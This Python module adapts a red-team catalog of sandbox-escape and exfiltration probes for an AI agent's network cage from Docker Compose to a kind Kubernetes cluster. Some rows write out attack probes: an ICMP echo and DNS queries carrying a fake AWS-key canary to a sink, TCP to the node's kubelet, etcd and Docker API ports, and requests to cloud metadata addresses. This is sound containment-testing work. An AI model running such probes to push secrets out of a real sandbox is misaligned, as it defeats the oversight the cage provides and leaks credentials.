"""The catalog on kind: what each row means there, and why.

The catalog (:mod:`kit.redteam.catalog`) was written against Compose. Every
row has an entry here, so none can be dropped silently:

- ``same``: the row runs as written; ``why`` says what its targets are on kind.
- ``mapped``: the row's targets or probes are kind's counterpart of Compose's
  (the node and the API server for the Docker host, the sink pod's own address
  for ICMP, which a Service address does not carry...); the row keeps its id.
- ``witness``: the attack runs as written, but its Compose control cannot pass
  on kind by design (an agent may send nothing but TCP to the proxy's port:
  no ICMP to the proxy, no resolver of its own), so the control runs, with the
  same probe code, in the witness pod, which no cage policy governs and which
  reaches the sink; where the agent can show its half (its own loopback, its
  hostAliases), that control stays in the agent too.
- ``not-applicable``: the row has no meaning on kind; ``why`` is reported as
  the row's skip reason (none today).
"""

from __future__ import annotations

import dataclasses
from collections.abc import Mapping
from dataclasses import dataclass

from kit.redteam import catalog as c
from kit.redteam.catalog import CATALOG, M, Technique
from kit.redteam.world import WITNESS

SAME, MAPPED, WITNESS_CONTROL, NOT_APPLICABLE = "same", "mapped", "witness", "not-applicable"
MODES = (SAME, MAPPED, WITNESS_CONTROL, NOT_APPLICABLE)
# Targets the kind world adds (Targets.extra), beyond those every backend fills.
KIND_TARGETS = ("sink_pod_ip", "api_ip", "kube_dns_ip")


@dataclass(frozen=True)
class KindRow:
    mode: str
    why: str
    technique: str | None = None
    attack: tuple[dict, ...] | None = None
    control: tuple[dict, ...] | None = None


def witness(probe: dict) -> dict:
    return {**probe, "where": WITNESS}


# Controls that exist only on kind's side.
_AGENT_ICMP = c.icmp("127.0.0.1")  # the agent can send and receive ICMP at all (its own loopback)
_WITNESS_ICMP = witness(c.icmp("${sink_pod_ip}"))  # ICMP crosses the pod network to the sink, which answers
_WITNESS_SINK_DNS = witness(c.dns(f"clean.{M}.${{domain}}", server="${sink_ip}"))  # UDP to the sink is answered


def _witness_resolver(qtype: str) -> dict:
    """The same query to a pod's own resolver (kube-dns, which forwards attacker names to the sink)."""
    return witness(c.dns(f"clean.{M}.${{domain}}", qtype))


_SINK_ADDRESS = ("${sink_ip} is the sink's fixed Service address (kube-proxy forwards it to the sink pod, which "
                 "the agent's egress policy judges); the control is the agent's one allowed flow, TCP to the proxy "
                 "pod's port 8080")
_NO_RESOLVER = "the agent has no resolver (dnsPolicy None, only 127.0.0.1, where nothing listens)"
_NO_ICMP = ("no agent path carries ICMP on kind (an agent may send only TCP to the proxy's port), so the controls "
            "are the agent's ICMP to its own loopback (the probe works there) and the witness's echo to the sink pod "
            "(ICMP crosses the pod network, the sink answers)")
_NO_UDP = ("no agent path carries UDP on kind (not even DNS: the agent has no resolver), so the control is the "
           "witness's DNS query to the sink's UDP port 53 at the same address, which the sink answers")
_THROUGH_PROXY = ("through the proxy as on Compose: the same proxy and scanner, the sink resolved by the proxy's "
                  "resolver (the sink itself) and reached at its Service address")
_NODE = ("kind's counterpart of the Docker host's gateway is the node the agent's pod runs on (its InternalIP, "
         "where the pod's route leads); the node stand-in (a listener in the node's network namespace) records "
         "what arrives on the red team's port")

_HOST_PORTS = (22, 53, 80, 2375, 2379, 2380, 6443, 10249, 10250, 10256, 10257, 10259)

_ROWS: dict[str, KindRow] = {
    "net-tcp-sink-ip-80": KindRow(SAME, _SINK_ADDRESS),
    "net-tcp-sink-ip-443": KindRow(SAME, _SINK_ADDRESS),
    "net-tcp-sink-ip-high": KindRow(SAME, _SINK_ADDRESS),
    "net-tcp-sink-name": KindRow(SAME, f"the sink's cluster DNS name; {_NO_RESOLVER}"),
    "net-tcp-paste-name": KindRow(SAME, _NO_RESOLVER),
    "net-udp-sink-ip": KindRow(WITNESS_CONTROL, _NO_UDP, control=(_WITNESS_SINK_DNS,)),
    "net-udp-sink-name": KindRow(WITNESS_CONTROL, f"{_NO_RESOLVER}; {_NO_UDP}", control=(_WITNESS_SINK_DNS,)),
    "net-icmp-sink-ip": KindRow(
        MAPPED, f"a Service address carries only its TCP and UDP ports, so the echo goes to the sink pod's own "
                f"address; {_NO_ICMP}",
        technique="ICMP echo with a canary in its payload to the sink pod's address",
        attack=(c.icmp("${sink_pod_ip}", f"RT {M} {{{{c:env-aws-key-id}}}}"),), control=(_AGENT_ICMP, _WITNESS_ICMP)),
    "net-icmp-sink-name": KindRow(WITNESS_CONTROL, f"{_NO_RESOLVER}; {_NO_ICMP}", control=(_AGENT_ICMP, _WITNESS_ICMP)),
    "net-ipv6-v4mapped": KindRow(SAME, "an IPv4-mapped address on an IPv6 socket is IPv4 on the wire: the same "
                                       "egress policy judges it; the control reaches the proxy pod the same way"),
    "net-ipv6-nat64": KindRow(SAME, "kind/cluster.yaml is IPv4 only: pods have no IPv6 route"),
    "net-ipv6-link-local": KindRow(
        WITNESS_CONTROL, "an IPv4-only cluster: a neighbour answering on the link would be the node's end of the "
                         "pod's interface, which IPv4 NetworkPolicy does not govern (replies from the agent's own "
                         f"addresses do not count); {_NO_ICMP}", control=(_AGENT_ICMP, _WITNESS_ICMP)),
    "net-proxy-ignored": KindRow(SAME, f"{_SINK_ADDRESS.split('; ')[0]}; the control goes through the proxy to the sink"),
    "net-proxy-unset": KindRow(SAME, f"{_SINK_ADDRESS.split('; ')[0]}; the control goes through the proxy to the sink"),
    "net-proxy-bypass-python": KindRow(SAME, f"{_SINK_ADDRESS.split('; ')[0]}; the control goes through the proxy"),
    "net-no-proxy-star": KindRow(SAME, f"curl goes direct to an attacker name: {_NO_RESOLVER}"),
    "net-no-proxy-domain": KindRow(SAME, f"curl goes direct to an attacker name: {_NO_RESOLVER}"),
    "net-no-proxy-ip": KindRow(SAME, _SINK_ADDRESS.split("; ")[0]),
    "net-host-gateway": KindRow(
        MAPPED, _NODE, technique="TCP to the red team's listener on the agent's node (its InternalIP)"),
    "net-host-addresses": KindRow(
        MAPPED, "the machine that runs kind (the nodes' Docker host), at its address on kind's Docker network and "
                "its own address, where the red team listens on the same port as on the nodes",
        technique="TCP to the red team's listener on the machine running kind (kind network gateway, own address)"),
    "net-host-ports": KindRow(
        MAPPED, "the node's own services: ssh, DNS, the stand-in's web port, the Docker API, etcd (2379-2380), the "
                "API server (6443), kube-proxy (10249, 10256), the kubelet (10250), controller-manager and scheduler "
                "(10257, 10259), and the API server again at the kubernetes Service address",
        technique="TCP to the node's well-known ports (API server, kubelet, etcd, ...) and the API server's Service address",
        attack=tuple(c.tcp("${gateway_ip}", p) for p in _HOST_PORTS) + (c.tcp("${api_ip}", 443),)),
    "net-host-dns": KindRow(
        MAPPED, "a resolver the cluster gives pods is kube-dns (in the red-team cluster it forwards outside names "
                "to the sink, so a query that got there would show at the sink); the node has none; the control is "
                "the witness's query to kube-dns, answered",
        technique="a DNS query with a canary to kube-dns and to the node's port 53",
        attack=(c.dns(f"{{{{c:env-aws-key-id|hex}}}}.{M}.${{domain}}", server="${kube_dns_ip}"),
                c.dns(f"{{{{c:env-aws-key-id|hex}}}}.{M}.${{domain}}", server="${gateway_ip}")),
        control=(witness(c.dns(f"clean.{M}.${{domain}}", server="${kube_dns_ip}")),)),
    "net-metadata": KindRow(
        MAPPED, "169.254.169.254 and 100.100.100.200 are put on every node's loopback, where the node stand-in "
                "listens on port 80, so a probe to them stays on the node and is recorded; fd00:ec2::254 is not "
                "sent (an IPv4-only cluster, and not an address of this machine)"),
    "net-scanner-direct": KindRow(SAME, f"the scanner pod's own address, and its name: {_NO_RESOLVER}"),
    "net-proxy-other-ports": KindRow(
        MAPPED, "${proxy_ip} is the proxy pod's own address (its Service forwards only 8080, so other ports of the "
                "Service address would prove nothing)"),
    "net-other-agent": KindRow(SAME, "the other agent's pod address, a listener started there"),
    "net-other-agent-icmp": KindRow(
        WITNESS_CONTROL, f"no pod may reach an agent at all (its ingress is denied); {_NO_ICMP}",
        control=(_AGENT_ICMP, _WITNESS_ICMP)),
    "net-ssh-sink": KindRow(SAME, _SINK_ADDRESS),
    "dns-a-resolver": KindRow(
        WITNESS_CONTROL, f"{_NO_RESOLVER}; the controls: the agent finds the proxy by name (hostAliases), and the "
                         "witness's own resolver answers the same kind of query", control=(
            {"op": "resolve", "name": "${proxy_host}"}, _witness_resolver("A"))),
    "dns-txt-resolver": KindRow(
        WITNESS_CONTROL, f"{_NO_RESOLVER}; the controls: the agent finds the proxy by name (hostAliases), and the "
                         "witness's own resolver answers the same kind of query", control=(
            {"op": "resolve", "name": "${proxy_host}"}, _witness_resolver("TXT"))),
    "dns-getaddrinfo": KindRow(SAME, f"{_NO_RESOLVER}; the control finds the proxy through hostAliases"),
    "dns-direct-sink-udp": KindRow(WITNESS_CONTROL, _NO_UDP, control=(_WITNESS_SINK_DNS,)),
    "dns-direct-sink-tcp": KindRow(
        WITNESS_CONTROL, f"{_NO_UDP} (the sink answers DNS over UDP only, on both backends)", control=(_WITNESS_SINK_DNS,)),
    "dest-host": KindRow(
        MAPPED, f"{_NODE}; the proxy must refuse the node's private address, by address and by a name the sink "
                "resolves to it"),
    "dest-metadata": KindRow(
        MAPPED, "sent once the cage's NetworkPolicies, read from the cluster, give the proxy no way to any address "
                "outside the cluster (the red-team component removes its internet egress); the addresses are on "
                "the nodes' loopback"),
    "dest-scanner": KindRow(SAME, "the proxy finds 'scanner' through its hostAliases (the scanner Service): it must "
                                  "refuse the private address"),
    "dest-other-agent": KindRow(SAME, "the other agent's pod address: private, refused by the proxy"),
    "fault-scanner-stopped": KindRow(
        MAPPED, "the scanner Deployment is scaled to 0 (its Service has no endpoint: the proxy's connection is "
                "refused), then back to 1 and ready"),
    "fault-scanner-slow": KindRow(
        MAPPED, "the scanner container is frozen through its cgroup on the node (what docker pause does); its "
                "readiness probe takes 15 s to drop it, past the proxy's 10 s scan deadline"),
}
for _row in CATALOG:
    if _row.id not in _ROWS and _row.channel in ("dns", "destination", "content", "encoding", "git"):
        _ROWS[_row.id] = KindRow(SAME, _THROUGH_PROXY)

ROWS: Mapping[str, KindRow] = _ROWS


def adapt(technique: Technique) -> Technique | str:
    """kind's form of a catalog row, or the reason it has none (a row without an entry is an error)."""
    try:
        row = ROWS[technique.id]
    except KeyError:
        raise KeyError(f"catalog row {technique.id!r} has no kind entry in kit/redteam/kind_catalog.py") from None
    if row.mode == NOT_APPLICABLE:
        return row.why
    changes: dict[str, object] = {}
    if row.technique:
        changes["technique"] = row.technique
    if row.attack is not None:
        changes["attack"] = row.attack
    if row.control is not None:
        changes["control"] = row.control
    return dataclasses.replace(technique, **changes) if changes else technique
